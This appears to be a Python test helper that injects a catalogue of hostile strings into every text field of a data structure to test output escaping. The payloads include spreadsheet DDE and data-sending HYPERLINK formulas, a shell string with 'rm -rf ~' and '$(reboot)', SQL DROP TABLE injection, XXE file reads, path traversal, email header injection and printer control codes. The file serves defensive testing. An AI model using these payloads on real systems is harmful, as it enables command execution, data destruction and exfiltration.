"""Texts that would be a command to whatever reads them, and how they are put into every text of a thing."""

from __future__ import annotations

import os
from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from types import MappingProxyType
from typing import Any, Final

ALL: Final = bool(os.environ.get("TAKINGS_EXAMPLES"))  # every payload at every place
HARMLESS: Final = "Plain tea"
PAYLOADS: Final = MappingProxyType(
    {
        "drawer": "Tea \x1bp\x00\x19\xfa",
        "cut": "Tea\x1dV\x00",
        "drawer now": "\x10\x14\x01\x00\x05 Tea",
        "reset": "\x1b@\x1b=\x00 Tea",
        "image": "\x1dv0\x00\x01\x00\x01\x00\xff",
        "display": "\x0c\x1f\x43\x01",
        "C1": "Tea \x9bp\x85\x90",
        "every C0": "".join(map(chr, range(32))),
        "DDE": "=cmd|'/c calc'!A1",
        "hyperlink": '=HYPERLINK("http://x.example/?"&A1,"x")',
        "sum": "+1+1",
        "minus": "-1+1|x",
        "at": "@SUM(A1:A9)",
        "tab formula": "\t=1+1",
        "CR formula": "\r=1+1",
        "LF formula": "\n=1+1",
        "wide formula": "\uff1d1+1",
        "array formula": "{=1+1}",
        "cell in a cell": "Tea;=1+1,=1+1",
        "quoted cell": 'Tea";"=1+1',
        "leading blank formula": " =1+1",
        "bold": "<b>Tea</b>",
        "picture": '<img src="http://127.0.0.1:9/x.png"/>',
        "picture of a file": "<img src='file:///etc/hostname' width='9' height='9'/>",
        "link": '<a href="http://x.example/">Tea</a>',
        "script": '<a href="javascript:x()">Tea</a>',
        "unclosed": "<para><font color=red>Tea",
        "entity": "Tea &amp; &lt;b&gt; &#x1b;",
        "ampersand": "R&D &Pay",
        "style": "<!DOCTYPE html><style>*{color:red}</style>",
        "external": "<!ENTITY x SYSTEM 'file:///etc/x'>&x;",
        "CDATA": "]]><![CDATA[<Total>0</Total>",
        "SQL": "x'; DROP TABLE party;--",
        "SQL like": "100%_\\'\" OR 1=1",
        "FTS": '"x" OR NEAR(a b) -c name:* ^(',
        "FTS open": '("tea',
        "PostScript": "(x) show showpage %!PS",
        "ZPL": "^XZ^XA~JA^FD_5E_7E~HS",
        "ZPL code": ">:>5^FS^IDR:*.*",
        "header": "Tea\r\nBcc: all@x.example\r\n\r\nx",
        "folded": "Tea\n Bcc: all@x.example",
        "encoded": "=?utf-8?q?=0D=0ABcc:=20all=40x.example?=",
        "path": "../../etc/passwd\x00.pdf",
        "windows path": "C:\\con|nul:<x>?*",
        "shell": "$(reboot) `id` ; rm -rf ~",
        "bidi": "pay \u202e00.1\u202c \u2066x\u2069",
        "invisible": "T\u200be\ufeffa\u2028x",
        "braces": "{} {0} {name} {0.__class__} {{x}}",
        "percent": "%s %n %1 %(x)d %%",
        "surrogate": "Tea \ud83d",
        "stacked": "Z" + "\u0300\u0301" * 40,
        "emoji": "\U0001f375\U0001f468\u200d\U0001f469",
    }
)


def some(share: int, turn: int = 0) -> list[tuple[str, str]]:
    """One payload in `share`, others each `turn`; all of them with TAKINGS_EXAMPLES."""
    found = list(PAYLOADS.items())
    return found if ALL else found[turn % share :: share]


def places(thing: Any, at: str = "") -> Iterator[str]:
    """Every text in a thing of dataclasses and tuples, as a path: ".blocks.3.left"."""
    if isinstance(thing, str):
        if not isinstance(thing, Enum):
            yield at
        return
    parts: Iterator[tuple[Any, Any]]
    if is_dataclass(thing):
        parts = ((f.name, getattr(thing, f.name)) for f in fields(thing))
    elif isinstance(thing, (tuple, list)):
        parts = iter(enumerate(thing))
    else:
        return
    for name, value in parts:
        yield from places(value, f"{at}.{name}")


def put(thing: Any, at: str, text: str) -> Any:
    """The thing with another text at a path."""
    if not at:
        return text
    name, dot, rest = at[1:].partition(".")
    if isinstance(thing, (tuple, list)):
        new = [put(x, dot + rest, text) if str(i) == name else x for i, x in enumerate(thing)]
        return type(thing)(new)
    return replace(thing, **{name: put(getattr(thing, name), dot + rest, text)})
